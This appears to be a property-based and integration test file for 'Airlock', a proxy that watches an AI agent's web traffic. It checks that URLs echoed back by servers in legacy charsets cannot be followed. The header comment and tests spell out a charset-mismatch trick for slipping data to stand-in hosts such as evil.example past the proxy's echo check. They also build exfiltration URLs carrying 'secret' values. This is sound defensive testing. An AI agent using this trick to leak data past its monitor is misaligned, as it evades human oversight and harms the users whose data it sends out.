// Echoes in other charsets: a server reads the bytes of its request in a charset of its own and
// writes them back into an answer of some charset. The echo check read the request as UTF-8 only,
// so bytes UTF-8 cannot read (U+FFFD, dropped from the letters compared) came back as letters, and
// letters of the request vanished in the answer (an ISO-2022-JP escape `ESC ( B` swallows its "B";
// a Shift_JIS lead byte makes "A" into "、"): the echoed link's letters were nowhere in the request,
// and the agent could follow `https://evil.example/?d=%C3%A9<data>`.
// Property-based over the agent's URL × where it puts it (query, header, form, text body) × bytes
// it inserts × how the server reads and writes (a raw echo in the answer's own legacy charset, or
// Latin-1 read and written as UTF-8, the servlet default); then through a real Airlock with curl.
import { execFile } from 'node:child_process';
import http from 'node:http';
import { promisify } from 'node:util';
import zlib from 'node:zlib';
import fc from 'fast-check';
import t from 'tap';
import { LinkScanner, echoedBy, pageSkeleton, requestSkeletons } from '../../describe/links.ts';
import { tempDir } from '../temp-dir.ts';
import { listenWeb, policyCopy, startSessionAirlock, testConfig, viaCurl } from '../sessions/helpers.ts';

const numRuns = Number(process.env.AIRLOCK_FUZZ_RUNS ?? 300);
const seed = process.env.AIRLOCK_FUZZ_SEED ? { seed: Number(process.env.AIRLOCK_FUZZ_SEED) } : {};

const word = fc.stringMatching(/^[A-Za-z0-9]{3,10}$/);
/** Bytes a server's charset reads otherwise than UTF-8 does: high bytes, ISO-2022 escapes, Shift_JIS/Big5/GBK lead bytes before a letter. */
const noise = fc.oneof(
  fc.uint8Array({ minLength: 1, maxLength: 3 }).map((a) => Buffer.from(a.map((b) => b | 0x80))),
  fc.constantFrom('\x1b(B', '\x1b(J', '\x1b$B', '\x81A', '\x82`', '\xa1A', '\xa8A', '\x99').map((s) => Buffer.from(s, 'latin1')),
);
/** How the server reads the request and which charset its answer is in. */
const servers: Array<{ reads: string; answers: string }> = [
  ...['iso-8859-1', 'windows-1252', 'shift_jis', 'iso-2022-jp', 'euc-jp', 'gbk', 'big5', 'euc-kr', 'koi8-r'].map((c) => ({ reads: c, answers: c })),
  { reads: 'iso-8859-1', answers: 'utf-8' },
];
const placements = ['query', 'header', 'form-body', 'text-body'] as const;

const pct = (b: Buffer): string => [...b].map((c) => (/[A-Za-z0-9]/.test(String.fromCharCode(c)) ? String.fromCharCode(c) : `%${c.toString(16).toUpperCase().padStart(2, '0')}`)).join('');

t.test('a URL echoed in another charset is not recorded, whatever bytes the agent mixed in (property)', async () => {
  const served = 'https://blog.example/posts/2024/review';
  fc.assert(fc.property(word, fc.array(word, { minLength: 1, maxLength: 3 }), fc.array(noise, { minLength: 1, maxLength: 3 }), fc.nat(100), fc.constantFrom(...servers), fc.constantFrom(...placements), fc.constantFrom<'html' | 'text'>('html', 'text'),
    (host, data, inserted, at, server, where, format) => {
      // The agent's URL as bytes, with the noise put among the letters of its host or its data.
      const text = `https://${host}.evil.example/?d=${data.join('')}`;
      const cut = 8 + (at % (text.length - 8));
      const pieces = inserted.map((b, i) => (i === 0 ? Buffer.concat([Buffer.from(text.slice(0, cut)), b]) : b));
      const leak = Buffer.concat([...pieces, Buffer.from(text.slice(cut))]);
      const base = { pathAndQuery: '/search?q=news', headers: [['accept', '*/*']] as Array<[string, string]>, summary: { truncated: false } };
      const req: Parameters<typeof requestSkeletons>[0] = where === 'query' ? { ...base, pathAndQuery: `/search?q=${pct(leak)}` }
        : where === 'header' ? { ...base, headers: [...base.headers, ['x-query', leak.toString('latin1')]] }
          : where === 'form-body' ? { ...base, body: { bytes: Buffer.from(`q=${pct(leak)}`), truncated: false }, summary: { truncated: false, form: { q: [leak.toString('utf8')] } } }
            : { ...base, body: { bytes: leak, truncated: false }, summary: { truncated: false, text: leak.toString('utf8') } };
      // The server reads the bytes in its charset and writes the text in its answer's.
      const echoed = new TextDecoder(server.reads).decode(leak);
      const body = format === 'html' ? `<p>Results for <b>${echoed}</b></p><a href="${served}">result</a>` : `you searched for ${echoed}\nresult: ${served}\n`;
      // A raw echo: the bytes as received (an ISO-2022-JP page switches back to ASCII after them, as its encoder would).
      const reset = server.reads === 'iso-2022-jp' ? '\x1b(B' : '';
      const answer = server.answers === server.reads ? Buffer.concat([Buffer.from(format === 'html' ? '<p>Results for <b>' : 'you searched for '), leak, Buffer.from(reset), Buffer.from(format === 'html' ? `</b></p><a href="${served}">result</a>` : `\nresult: ${served}\n`)]) : Buffer.from(body);
      const page = `https://search.example${req.pathAndQuery}`;
      const scanner = new LinkScanner(format, page);
      scanner.write(new TextDecoder(server.answers).decode(answer));
      const sent = requestSkeletons({ ...req, answerCharset: server.answers });
      if (!sent) return false;
      const links = scanner.end().filter((u) => !echoedBy(u, sent, scanner.spellingsOf(u), pageSkeleton(page)));
      // Only the result the source chose: nothing built of the agent's URL, whole or cut short.
      return links.length === 1 && links[0] === served;
    }), { numRuns, ...seed });
});

t.test('through the real proxy: a Latin-1 page (also to a gzip form) and a header echoed as UTF-8 serve no link the agent wrote', async (t) => {
  const all: Array<{ host: string; url: string }> = [];
  let port = 0;
  const server = http.createServer((req, res) => {
    const host = (req.headers.host ?? '').split(':')[0]!;
    all.push({ host, url: req.url ?? '' });
    if (host === 'search.test' && req.method === 'POST') {
      // A Latin-1 search form that takes gzip-compressed bodies.
      const chunks: Buffer[] = [];
      req.on('data', (c: Buffer) => chunks.push(c));
      req.on('end', () => {
        let body = Buffer.concat(chunks);
        if (req.headers['content-encoding'] === 'gzip') body = zlib.gunzipSync(body);
        const q = /(?:^|&)q=([^&]*)/.exec(body.toString('latin1'))?.[1] ?? '';
        const bytes = Buffer.from(q.replace(/\+/g, ' ').replace(/%([0-9a-f]{2})/gi, (_m, h: string) => String.fromCharCode(parseInt(h, 16))), 'latin1');
        res.setHeader('content-type', 'text/html; charset=iso-8859-1');
        res.end(Buffer.concat([Buffer.from('<p>Results for '), bytes, Buffer.from(`</p><a href="http://blog.test:${port}/post?id=4">result</a>`)]));
      });
      return;
    }
    req.resume();
    if (host === 'search.test' && req.url?.startsWith('/latin1')) {
      // An old search page: reads the query as Latin-1 and echoes it into a Latin-1 page.
      const q = /[?&]q=([^&]*)/.exec(req.url)?.[1] ?? '';
      const bytes = Buffer.from(q.replace(/\+/g, ' ').replace(/%([0-9a-f]{2})/gi, (_m, h: string) => String.fromCharCode(parseInt(h, 16))), 'latin1');
      res.setHeader('content-type', 'text/html; charset=iso-8859-1');
      res.end(Buffer.concat([Buffer.from('<p>Results for '), bytes, Buffer.from(`</p><a href="http://blog.test:${port}/post?id=4">result</a>`)]));
    } else if (host === 'search.test') {
      // An API that shows the headers it received as they were sent (UTF-8 bytes stay UTF-8).
      const raw = req.rawHeaders.findIndex((h) => h.toLowerCase() === 'x-query');
      const value = raw >= 0 ? Buffer.from(req.rawHeaders[raw + 1]!, 'latin1') : Buffer.alloc(0);
      res.setHeader('content-type', 'application/json; charset=utf-8');
      res.end(Buffer.concat([Buffer.from('{"you_sent":"'), value, Buffer.from(`","results":[{"url":"http://blog.test:${port}/post?id=4"}]}`)]));
    } else {
      res.setHeader('content-type', 'text/plain');
      res.end(`ok ${host}`);
    }
  });
  const web = await listenWeb(t, server);
  port = web.port;

  const allowed = [...testConfig.config.allowed_hosts.filter((h) => h !== 'search.test'), { host: 'search.test', methods: ['GET', 'POST'] }];
  const airlock = await startSessionAirlock(t, tempDir(t, 'al-charset-'), policyCopy(t, { config: { ...testConfig.config, allowed_hosts: allowed, labels: { hosts: { 'search.test': [] } } } }), web);
  const agent = await airlock.agents.add('bot');
  const proxy = airlock.proxyUrl('bot', agent.token);

  // %E9 is U+FFFD to UTF-8 (no letter) and é to Latin-1: the echoed link carries "é" + the data.
  t.equal((await viaCurl(proxy, 'GET', `${web.origin('search.test')}/latin1?q=${encodeURIComponent(`http://evil.test:${port}/x?d=`)}%E9secret1`)).status, 200);
  t.equal((await viaCurl(proxy, 'GET', `http://evil.test:${port}/x?d=%C3%A9secret1`)).status, 403, 'the Latin-1 echo is not followable');
  // A header whose UTF-8 bytes Node reads as Latin-1 ("Ã©"), echoed by the server as UTF-8 ("é"). curl sends the bytes as given.
  const { stdout } = await promisify(execFile)('curl', ['-s', '-o', '/dev/null', '-w', '%{http_code}', '--proxy', proxy, '-H', `X-Query: http://evil.test:${port}/x?d=\u00e9secret2`, `${web.origin('search.test')}/api?q=news`]);
  t.equal(stdout, '200');
  t.equal((await viaCurl(proxy, 'GET', `http://evil.test:${port}/x?d=%C3%A9secret2`)).status, 403, 'the header echo is not followable');
  // The same in a gzip-compressed form: the description parses it as UTF-8 (U+FFFD), the server as Latin-1.
  // (A query of words: a form field that is a URL alone is held since the seventeenth pass, as a host may fetch it.)
  const form = zlib.gzipSync(Buffer.from(`q=news+${encodeURIComponent(`http://evil.test:${port}/x?d=`)}%E9secret3`));
  t.equal(await postVia(airlock.proxyAddress.port, `bot:${agent.token}`, `${web.origin('search.test')}/form`, form), 200);
  t.equal((await viaCurl(proxy, 'GET', `http://evil.test:${port}/x?d=%C3%A9secret3`)).status, 403, 'the echo of a compressed form is not followable');
  t.notOk(all.some((h) => h.host === 'evil.test'), 'evil.test received nothing');
  // The link the pages chose is followable.
  t.equal((await viaCurl(proxy, 'GET', `http://blog.test:${port}/post?id=4`)).status, 200, 'the served result is followed');
});

/** A gzip-compressed form POST through the proxy with Node's http client; its status. */
function postVia(proxyPort: number, credentials: string, url: string, body: Buffer): Promise<number> {
  return new Promise((resolve, reject) => {
    const req = http.request({ host: '127.0.0.1', port: proxyPort, method: 'POST', path: url, headers: { host: new URL(url).host, 'proxy-authorization': `Basic ${Buffer.from(credentials).toString('base64')}`, 'content-type': 'application/x-www-form-urlencoded', 'content-encoding': 'gzip', 'content-length': body.length } }, (res) => {
      res.resume();
      res.on('end', () => resolve(res.statusCode ?? 0));
    });
    req.on('error', reject);
    req.end(body);
  });
}
